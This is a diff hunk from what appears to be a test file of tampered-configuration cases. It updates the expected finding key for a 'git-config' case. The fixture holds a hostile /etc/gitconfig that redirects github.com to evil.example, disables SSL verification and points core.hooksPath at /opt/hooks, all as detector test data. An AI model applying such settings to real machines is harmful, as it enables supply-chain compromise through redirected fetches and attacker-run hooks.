@@ -137,7 +137,7 @@ TAMPERED = [
     ),
     Tampered(
         "git-config",
-        {"git-settings": "url.https://evil.example/.insteadOf"},
+        {"git-settings": "url.insteadOf"},
         {
             "/etc/gitconfig": '[url "https://evil.example/"]\n\tinsteadOf = https://github.com/\n'
             "[http]\n\tsslVerify = false\n[core]\n\thooksPath = /opt/hooks\n"
